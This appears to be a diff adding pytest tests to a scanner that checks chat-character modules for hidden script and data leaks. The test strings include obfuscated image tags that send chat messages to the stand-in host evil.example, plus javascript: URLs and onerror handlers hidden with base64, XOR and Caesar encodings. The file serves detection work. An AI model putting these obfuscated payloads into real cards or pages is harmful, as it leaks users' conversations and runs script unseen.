@@ -22,11 +22,13 @@
 
 from __future__ import annotations
 
+import base64
 from typing import Any
 
 import pytest
 
 from risutools.analysis import analyze
+from risutools.analysis.cbsfold import MAX_FOLDED, fold_cbs
 from risutools.analysis.model import Analysis
 from risutools.formats.model import Module
 
@@ -99,3 +101,94 @@ def test_the_display_colon_makes_a_script_url_and_a_host() -> None:
 def test_the_background_is_shown_without_the_display_map() -> None:
     a = module(backgroundEmbedding='<a href="javascript\ue9bealert(1)">x</a>')
     assert "RA303" not in rules(a)
+
+
+# ---- CBS tags that give characters -------------------------------------------------------
+
+@pytest.mark.parametrize("out", [
+    '<img src="https:{{u::2f}}{{u::2f}}evil.example/?q={{lastmessage}}">',
+    '<img src="http{{u::3a}}/evil.example/?q={{lastmessage}}">',
+    '<img src="http{{unicodedecode::58}}/evil.example/?q=$1">',
+    '<img src="http{{unicode_decode:: 0x3a }}/evil.example/?q=$1">',
+    '<img src="http{{U::1003A}}/evil.example/?q=$1">',
+    '<img src="http{{dec}}/evil.example/?q=$1">',
+    '<img src="http{{displayescapedcolon}}/evil.example/?q=$1">',
+    '<img src="http:{{u::2f}}{{br}}evil.example/?q=$1">',
+    'http{{u::3a}}/evil.example/?q={{lastmessage}}',
+])
+def test_a_tag_that_gives_a_character_builds_the_address(out: str) -> None:
+    assert any("evil.example" in m for m in leaks(regex_out(out)))
+
+
+def test_a_tag_that_gives_a_colon_makes_a_script_url() -> None:
+    assert "RA303" in rules(regex_out('<a href="javascript{{u::3a}}alert(1)">x</a>'))
+    assert "RA303" in rules(module(
+        backgroundEmbedding='<a href="javascript{{unicodedecode::58}}alert(1)">x</a>'))
+    # the background keeps U+E9BE as it is (no display map): not a colon there
+    assert "RA303" not in rules(module(
+        backgroundEmbedding='<a href="javascript{{dec}}alert(1)">x</a>'))
+
+
+def test_a_tag_nested_in_a_tag_that_gives_a_character() -> None:
+    out = '<img src="http{{u::{{u::33}}a}}/evil.example/?q=$1">'
+    assert any("evil.example" in m for m in leaks(regex_out(out)))
+
+
+def test_a_character_tag_keeps_its_line() -> None:
+    a = regex_out('x\n<img src="http:{{u::2f}}{{br}}{{u::2f}}evil.example/?q=$1">\n<b>y</b>')
+    ev = [f.evidence for f in a.findings if f.rule == "RA305"]
+    assert ev and all("line 2" in e for e in ev)
+
+
+# ---- CBS decoders ------------------------------------------------------------------------
+
+def cbs(*parts: str) -> str:
+    return "{{" + "::".join(parts) + "}}"
+
+
+def b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+def xor64(text: str) -> str:
+    return base64.b64encode(bytes(b ^ 0xFF for b in text.encode())).decode()
+
+
+def test_a_file_tag_hides_an_address() -> None:
+    a = regex_out(cbs("file", "a", b64('<img src="https://evil.example/?q=')) + '$1">')
+    assert any("evil.example" in m for m in leaks(a))
+    assert "evil.example" in hosts(a)
+
+
+def test_a_decoder_hides_a_handler() -> None:
+    assert "RA302" in rules(regex_out(cbs("file", "a", b64("<img src=x onerror=alert(1)>"))))
+    assert "RA302" in rules(regex_out(cbs("xordecrypt", xor64("<img src=x onerror=f()>"))))
+    assert "RA302" in rules(module(backgroundEmbedding=cbs("xord", xor64("<svg onload=f()>"))))
+    shifted = "".join(chr((ord(c) + 32768) % 65536) for c in "<img src=x onerror=f()>")
+    assert "RA302" in rules(regex_out(cbs("crypt", shifted)))
+    by_one = "".join(chr(ord(c) - 1) for c in "<img src=x onerror=f()>")
+    assert "RA302" in rules(regex_out(cbs("caesar", by_one, "1")))
+
+
+def test_a_file_tag_in_a_greeting_is_shown_as_its_name() -> None:
+    # a chat message is parsed for display (visualize): the file's name, not its text
+    a = analyze(Module({"name": "C", "id": "c", "cardFields": {
+        "first_mes": cbs("file", "a.txt", b64("<img src=x onerror=alert(1)>"))}}))
+    assert "RA302" not in rules(a)
+
+
+def test_a_decoder_of_a_text_not_literal_is_an_unknown_address() -> None:
+    a = regex_out('<img src="{{xordecrypt::{{getvar::k}}}}{{lastmessage}}">')
+    assert any("to * " in m for m in leaks(a))
+    # a literal one is read as the text it gives: "hello" then chat data is no address
+    assert leaks(regex_out('<img src="{{xordecrypt::%s}}{{lastmessage}}">'.replace(
+        "%s", xor64("hello")))) == []
+
+
+def test_decoding_is_bounded() -> None:
+    one = cbs("xordecrypt", xor64("<b>" * 100_000))
+    folded = fold_cbs(one * 20)
+    assert len(folded.text) <= MAX_FOLDED + len(one) * 20
+    assert folded.text.count("<b>") <= MAX_FOLDED // 3
+    nested = "{{crypt::" * 60 + "x" * 100_000 + "}}" * 60  # each level within the budget
+    assert len(fold_cbs(nested).text) <= MAX_FOLDED + len(nested)
